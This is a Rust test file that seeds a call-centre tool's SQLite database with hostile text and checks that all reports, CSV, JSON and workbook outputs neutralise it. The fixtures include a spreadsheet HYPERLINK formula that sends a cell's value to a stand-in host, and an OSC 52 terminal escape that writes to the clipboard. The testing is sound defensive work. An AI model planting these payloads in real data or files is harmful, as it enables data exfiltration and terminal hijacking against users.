//! Defence in depth: hostile text written straight into the database file
//! (as someone with the file and `sqlite3` would, past every check at the
//! door) in every text column a user reads, then every output of dcc read
//! back: each command's table, CSV, JSON and workbook, on standard output
//! and in files, and the workstation's screens. No character a terminal
//! would obey reaches one, no CSV cell runs as a formula, no workbook cell
//! is a formula or holds a control character, and the text is still there
//! to read (shown as `\x1b` or `␛`).

mod common;

use std::path::{Path, PathBuf};

use common::hostile::{assert_csv_inert, assert_terminal_safe, xlsx_cells, STORED};

const NOW: &str = "2026-11-23T10:00";
const BOSS: &str = "root";
/// An outbound agent whose login is left as it was (the command line names it).
const AGENT: &str = "zhang.hui";
const FORMULA: &str = "=HYPERLINK(\"http://x/?\"&A1,\"click\")";

/// How the command line shows the start of [`STORED`].
const SHOWN: &str = "\\x1b]52;c;aGVsbG8K\\x07";

struct Poisoned {
    dir: tempfile::TempDir,
    db: PathBuf,
}

fn dcc(db: &Path, user: &str, args: &[&str]) -> common::Run {
    common::run(common::dcc_as(db, user, NOW).args(args))
}

fn ok(db: &Path, user: &str, args: &[&str]) -> String {
    let r = dcc(db, user, args);
    assert!(r.ok, "dcc {args:?} failed: {}", r.stderr);
    r.stdout
}

/// The demo's team and fifteen months of history, an import, a
/// do-not-call number and an SSH key; then [`STORED`] written into every
/// text a user reads, with `sqlite3`'s powers.
fn poisoned() -> Poisoned {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("dcc.sqlite");
    let demo = common::run(
        std::process::Command::new(env!("CARGO_BIN_EXE_dcc"))
            .args(["--db", db.to_str().unwrap()])
            .args(["demo", "--leads", "300", "--seed", "5"])
            .env("DCC_NOW", NOW)
            .env("DCC_CONFIG", db.with_extension("no-config.toml")),
    );
    assert!(demo.ok, "{}", demo.stderr);
    let csv = dir.path().join("platform.csv");
    std::fs::write(
        &csv,
        "姓名,电话,渠道,车型,级别\n甲,13811112222,汽车之家,凯美瑞,A\n乙,13811113333,汽车之家,凯美瑞,A\n",
    )
    .unwrap();
    ok(&db, BOSS, &["import", csv.to_str().unwrap()]);
    ok(
        &db,
        BOSS,
        &["dnc", "add", "13899998888", "--note", "客户要求"],
    );
    let c = rusqlite::Connection::open(&db).unwrap();
    c.execute(
        "INSERT INTO agent_keys (agent_id, fingerprint, kind, blob, comment, added_at, added_by)
         SELECT id, 'SHA256:x', 'ssh-ed25519', 'AAAA', '', '2026-11-23 09:00:00', id
         FROM agents WHERE login = ?1",
        [AGENT],
    )
    .unwrap();
    let text_columns: &[(&str, &str, &str)] = &[
        ("leads", "name", "1"),
        ("leads", "model", "1"),
        ("leads", "note", "1"),
        ("leads", "city", "1"),
        ("leads", "current_car", "1"),
        ("leads", "consent", "1"),
        ("agents", "name", "1"),
        // Logins too, but the two the command line names.
        ("agents", "login", "login NOT IN ('root', 'zhang.hui')"),
        ("channels", "name_zh", "1"),
        ("channels", "name_en", "1"),
        ("channels", "code", "1"),
        ("reasons", "name_zh", "1"),
        ("reasons", "name_en", "1"),
        ("reasons", "grp", "1"),
        ("calls", "note", "id % 3 = 0"),
        ("calls", "reason", "id % 7 = 0"),
        ("scripts", "title", "1"),
        ("scripts", "body", "1"),
        ("settings", "value", "key IN ('dealer', 'campaign')"),
        ("lead_sources", "origin", "1"),
        ("imports", "origin", "1"),
        ("dnc", "note", "1"),
        ("dnc", "origin", "1"),
        ("models", "name_zh", "1"),
        ("models", "name_en", "1"),
        ("models", "aliases", "1"),
        ("agent_keys", "comment", "1"),
        ("report_models", "model", "1"),
        ("report_defeats", "reason", "reason <> ''"),
    ];
    for (table, column, rows) in text_columns {
        // A model also starts with a formula, for the spreadsheets.
        let head = if *column == "model" {
            format!("{FORMULA}{STORED}")
        } else {
            STORED.to_string()
        };
        c.execute(
            &format!("UPDATE {table} SET {column} = ?1 || {column} WHERE {rows} AND {column} IS NOT NULL"),
            [&head],
        )
        .unwrap_or_else(|e| panic!("{table}.{column}: {e}"));
    }
    // The event log is append-only: an added event carries it.
    c.execute(
        "INSERT INTO events (lead_id, at, agent_id, actor_id, kind, old, new, note)
         SELECT id, '2026-11-22 10:00:00', owner_id, owner_id, 'status', 'tracking', 'tracking', ?1
         FROM leads WHERE owner_id IS NOT NULL",
        [STORED],
    )
    .unwrap();
    Poisoned { dir, db }
}

/// Every report, in every format, both languages, on standard output and
/// in a file; the other listings of the command line; each as the person
/// who may run it.
#[test]
fn stored_hostile_text_reaches_no_terminal_and_no_spreadsheet_from_any_command() {
    let p = poisoned();
    let db = &p.db;
    let mut runs: Vec<(&str, Vec<String>)> = Vec::new();
    let own = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    for lang in ["en", "zh-CN"] {
        for report in [
            "funnel", "monthly", "models", "defeats", "grades", "agents", "today",
        ] {
            for format in ["table", "csv", "json"] {
                runs.push((
                    BOSS,
                    own(&["--lang", lang, "report", report, "--format", format]),
                ));
            }
        }
        for format in ["table", "csv", "json"] {
            runs.push((
                AGENT,
                own(&["--lang", lang, "export", "visits", "--format", format]),
            ));
            runs.push((AGENT, own(&["--lang", lang, "queue", "--format", format])));
            for list in [
                &["requests"][..],
                &["import", "list"],
                &["queue", "--all"],
                &["team"],
                &["agent", "list"],
            ] {
                let mut args = own(&["--lang", lang]);
                args.extend(own(list));
                args.extend(own(&["--format", format]));
                runs.push((BOSS, args));
            }
        }
        for id in ["1", "2", "50", "120", "300", "301"] {
            for format in ["table", "json"] {
                runs.push((
                    BOSS,
                    own(&["--lang", lang, "lead", "show", id, "--format", format]),
                ));
            }
        }
        for other in [
            &["dnc", "list"][..],
            &["model", "list"],
            &["reasons"],
            &["channels"],
            &["agent", "key", "list"],
            &["script", "show", "follow_up", "--lead", "5"],
            &["script", "show", "invitation", "--raw"],
        ] {
            let mut args = own(&["--lang", lang]);
            args.extend(own(other));
            runs.push((BOSS, args));
        }
    }
    for (user, args) in &runs {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let r = dcc(db, user, &args);
        assert!(r.ok, "{args:?}: {}", r.stderr);
        assert_terminal_safe(&format!("{args:?}"), r.stdout.as_bytes());
        assert_terminal_safe(&format!("{args:?} (stderr)"), r.stderr.as_bytes());
        match args.last() {
            Some(&"csv") => {
                let cells = assert_csv_inert(&format!("{args:?}"), &r.stdout);
                assert!(cells.len() > 1, "{args:?}: {}", r.stdout);
            }
            Some(&"json") => {
                serde_json::from_str::<serde_json::Value>(&r.stdout)
                    .unwrap_or_else(|e| panic!("{args:?}: not JSON ({e}): {}", r.stdout));
            }
            _ => {}
        }
    }
    // The text is there to read, shown.
    for (args, shown) in [
        (&["lead", "show", "1"][..], SHOWN),
        (&["team"], SHOWN),
        (&["import", "list"], SHOWN),
        (&["agent", "key", "list"], SHOWN),
        (&["channels"], SHOWN),
        (&["reasons"], SHOWN),
        (&["report", "models", "--format", "csv"], "'=HYPERLINK("),
    ] {
        let out = ok(db, BOSS, args);
        assert!(out.contains(shown), "{args:?}: {out}");
    }
    let out = ok(db, AGENT, &["export", "visits", "--format", "csv"]);
    let cells = assert_csv_inert("visits", &out);
    assert!(
        cells
            .iter()
            .any(|c| c.starts_with(&format!("'{FORMULA}客户{SHOWN}"))),
        "{out}"
    );
    // JSON keeps the value itself, escaped.
    let lead: serde_json::Value =
        serde_json::from_str(&ok(db, BOSS, &["lead", "show", "1", "--format", "json"])).unwrap();
    assert!(lead["name"].as_str().unwrap().starts_with(STORED), "{lead}");
}

/// `--output FILE`: the file is `cat` later, opened in a spreadsheet, or
/// converted: text files carry no control character, workbooks no formula
/// and no control character in a cell.
#[test]
fn files_written_from_stored_hostile_text_carry_no_control_and_no_formula() {
    let p = poisoned();
    let db = &p.db;
    let mut n = 0;
    let mut out = |user: &str, args: &[&str], ext: &str| -> PathBuf {
        n += 1;
        let file = p.dir.path().join(format!("out{n}.{ext}"));
        let mut all = args.to_vec();
        all.extend(["--format", ext, "--output", file.to_str().unwrap()]);
        ok(db, user, &all);
        file
    };
    let mut xlsx_texts = Vec::new();
    for lang in ["en", "zh-CN"] {
        let mut runs: Vec<(&str, Vec<&str>)> = [
            "funnel", "monthly", "models", "defeats", "grades", "agents", "today",
        ]
        .iter()
        .map(|r| (BOSS, vec!["--lang", lang, "report", r]))
        .collect();
        runs.push((AGENT, vec!["--lang", lang, "export", "visits"]));
        for (user, args) in runs {
            for ext in ["table", "csv", "json"] {
                let file = out(user, &args, ext);
                let bytes = std::fs::read(&file).unwrap();
                let what = format!("{args:?} {ext} file");
                assert_terminal_safe(&what, &bytes);
                let text = String::from_utf8(bytes).unwrap();
                match ext {
                    "csv" => {
                        assert_csv_inert(&what, &text);
                    }
                    "json" => {
                        serde_json::from_str::<serde_json::Value>(&text)
                            .unwrap_or_else(|e| panic!("{what}: {e}"));
                    }
                    _ => {}
                }
            }
            let book = out(user, &args, "xlsx");
            let cells = xlsx_cells(&format!("{args:?}"), &book);
            for cell in &cells {
                assert_terminal_safe(&format!("{args:?} xlsx cell"), cell.as_bytes());
            }
            xlsx_texts.extend(cells);
        }
    }
    assert!(
        xlsx_texts.iter().any(|c| c.contains(SHOWN)),
        "the workbooks show the text"
    );
    assert!(
        xlsx_texts.iter().any(|c| c.starts_with(FORMULA)),
        "a workbook keeps a formula's text as text (a string cell)"
    );
}
